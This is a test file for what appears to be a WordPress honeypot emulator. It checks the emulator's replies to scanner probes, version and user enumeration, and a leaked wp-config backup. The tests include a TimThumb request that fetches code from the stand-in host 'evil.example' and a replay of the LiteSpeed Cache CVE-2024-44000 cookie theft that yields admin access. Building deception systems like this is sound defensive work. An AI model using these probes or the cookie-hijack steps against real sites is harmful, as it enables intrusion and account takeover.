import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import wordpress from '../../../src/emulators/wordpress/index.ts'
import { type Playing, play } from '../../harness.ts'
import { ask } from '../../http/ask.ts'
import { MemoryHosts } from '../../http/memory-hosts.ts'

let p: Playing

beforeAll(async () => {
  const options = { vulnerable: ['litespeed-cache'], login: { accept: [{ user: 'admin', password: 'right' }], policy: 'list' } }
  const settings = { limits: { connectionsPerSource: 400 } }
  p = await play(wordpress, { persona: 'plain', prompts: 'test/fixtures/prompts', hosts: new MemoryHosts(), options, settings })
})

afterAll(async () => {
  expect([p.data('lure.fault'), p.deadLetters]).toEqual([[], []])
  await p.stop()
})

const get = (path: string) => ask(p, 'GET', path)

/** What wpscan looks at, in its order: interesting findings, version, main theme, users. */
describe('what a scanner of WordPress looks at', () => {
  it.each([
    ['/robots.txt', 200, /^User-agent: \*\nDisallow: \/wp-admin\/\nAllow: \/wp-admin\/admin-ajax\.php/],
    ['/xmlrpc.php', 405, /^XML-RPC server accepts POST requests only\.$/],
    ['/readme.html', 200, /<title>WordPress &#8250; ReadMe<\/title>/],
    ['/license.txt', 200, /^WordPress/],
    ['/wp-cron.php', 200, /^$/],
    ['/wp-content/uploads/', 403, /403 Forbidden/],
    ['/wp-content/mu-plugins/', 404, /Page not found/],
    ['/wp-content/backup-db/', 404, /Page not found/],
    ['/wp-content/uploads/dump.sql', 404, /Page not found/],
    ['/emergency.php', 404, /Page not found/],
    ['/installer-log.txt', 404, /Page not found/],
    ['/wp-signup.php', 302, /^$/],
    ['/wp-includes/rss-functions.php', 500, /^$/],
    ['/wp-content/themes/twentytwentyfive/functions.php', 500, /^$/],
    ['/wp-includes/version.php', 200, /^$/],
    ['/wp-includes/', 403, /403 Forbidden/],
    ['/.git/HEAD', 404, /Page not found/],
    ['/zzz-random-7', 404, /Page not found/],
  ])('%s is %i', async (path, status, expected) => {
    const reply = await get(path)
    expect([reply.status, reply.body]).toEqual([status, expect.stringMatching(expected)])
  })

  it('the release, in every way that it is told', async () => {
    const said: [string, RegExp][] = [
      ['/', /<meta name="generator" content="WordPress ([\d.]+)" \/>/],
      ['/', /wp-emoji-release\.min\.js\?ver=([\d.]+)/],
      ['/', /block-library\/style\.min\.css\?ver=([\d.]+)/],
      ['/feed/', /<generator>https:\/\/wordpress\.org\/\?v=([\d.]+)<\/generator>/],
      ['/comments/feed/', /<generator>https:\/\/wordpress\.org\/\?v=([\d.]+)<\/generator>/],
      ['/feed/rdf/', /<admin:generatorAgent rdf:resource="https:\/\/wordpress\.org\/\?v=([\d.]+)" \/>/],
      ['/feed/atom/', /<generator uri="https:\/\/wordpress\.org\/" version="([\d.]+)">WordPress<\/generator>/],
      ['/wp-links-opml.php', /generator="WordPress\/([\d.]+)"/],
      ['/wp-login.php', /login\.min\.css\?ver=([\d.]+)/],
    ]
    for (const [path, pattern] of said) expect([path, pattern.exec((await get(path)).body)?.[1]]).toEqual([path, '6.8.3'])
  })

  it('feeds, each of its own type', async () => {
    const types = await Promise.all(
      ['/feed/', '/comments/feed/', '/feed/rdf/', '/feed/atom/'].map(async (path) => (await get(path)).header('content-type')),
    )
    expect(types).toEqual(['rss', 'rss', 'rdf', 'atom'].map((kind) => `application/${kind}+xml; charset=UTF-8`))
    expect((await get('/comments/feed/')).body).toContain('<title>Comments for ')
  })

  it('who writes: by the feeds, the sitemap, REST and the login', async () => {
    const names = [...(await get('/feed/')).body.matchAll(/<dc:creator><!\[CDATA\[([^\]]+)/g)].map(([, name]) => name)
    const users = JSON.parse((await get('/wp-json/wp/v2/users/?per_page=100&page=1')).body) as { name: string; slug: string }[]
    expect(new Set(names)).toEqual(new Set(users.map(({ name }) => name)))
    const sitemap = (await get('/wp-sitemap-users-1.xml')).body
    for (const { slug } of users) expect(sitemap).toContain(`/author/${slug}/`)
    const post = JSON.parse((await get('/wp-json/wp/v2/posts?per_page=1')).body) as { link: string }[]
    const embed = await get(`/wp-json/oembed/1.0/embed?url=${encodeURIComponent(post[0]!.link)}`)
    expect((JSON.parse(embed.body) as { author_name: string }).author_name).toBe(names[0])
  })

  it('its own pages: cookies, icon, picture, the lost password, nobody registers', async () => {
    expect((await get('/wp-login.php')).header('set-cookie')).toBe('wordpress_test_cookie=WP%20Cookie%20check; path=/')
    const icon = await get('/favicon.ico')
    expect([icon.status, icon.header('x-redirect-by'), icon.header('location')]).toEqual([
      302,
      'WordPress',
      'http://www.test.lan/wp-includes/images/w-logo-blue-white-bg.png',
    ])
    expect((await get('/wp-includes/images/w-logo-blue-white-bg.png')).bytes.subarray(1, 4).toString()).toBe('PNG')
    expect((await get('/wp-login.php?action=register')).header('location')).toBe('http://www.test.lan/wp-login.php?registration=disabled')
    const lost = await ask(p, 'POST', '/wp-login.php?action=lostpassword', {
      headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
      body: 'user_login=nobody',
    })
    expect(lost.body).toContain('There is no account with that username or email address.')
    expect((await get('/xmlrpc.php?rsd')).body).toContain('<engineName>WordPress</engineName>')
  })

  it('one forgotten copy of the configuration, with secrets; every look is written down', async () => {
    const copies = ['.php.bak', '.php~', '.php.save', '.php.old', '.txt', '.bak'].map((ending) => `/wp-config${ending}`)
    const found = (await Promise.all(copies.map(async (path) => ({ path, reply: await get(path) })))).filter(
      ({ reply }) => reply.status === 200,
    )
    expect(found).toHaveLength(1)
    expect(found[0]!.reply.body).toMatch(/'DB_PASSWORD', '[A-Za-z0-9]{14}'/)
    const looks = p.data<{ kind: string; name: string; found: boolean }>('wordpress.probe').filter(({ name }) => copies.includes(name))
    expect(looks.filter((look) => look.found).map(({ name }) => name)).toEqual([found[0]!.path])
    expect(looks).toHaveLength(copies.length)
  })

  it('scripts that resize pictures are not there; what they should have fetched is written down', async () => {
    for (const path of ['/wp-content/themes/x/timthumb.php?src=http://evil.example/a.php', '/wp-content/plugins/y/uploadify/uploadify.php'])
      expect((await get(path)).status).toBe(404)
    expect(p.data<{ kind: string; name: string }>('wordpress.probe').filter(({ kind }) => kind === 'timthumb')).toMatchObject([
      { name: '/wp-content/themes/x/timthumb.php?src=http://evil.example/a.php', found: false },
      { found: false },
    ])
  })

  it("the log of LiteSpeed Cache, with the administrator's cookies (CVE-2024-44000)", async () => {
    const log = await get('/wp-content/debug.log')
    const [, cookie = ''] = /Set-Cookie: (wordpress_logged_in_[^;]+)/.exec(log.body) ?? []
    expect((await ask(p, 'GET', '/wp-admin/', { headers: { Cookie: cookie } })).body).toContain('Dashboard</h1>')
    expect(p.events.find(({ type }) => type === 'wordpress.exploit')?.tags).toContain('cve:CVE-2024-44000')
  })
})
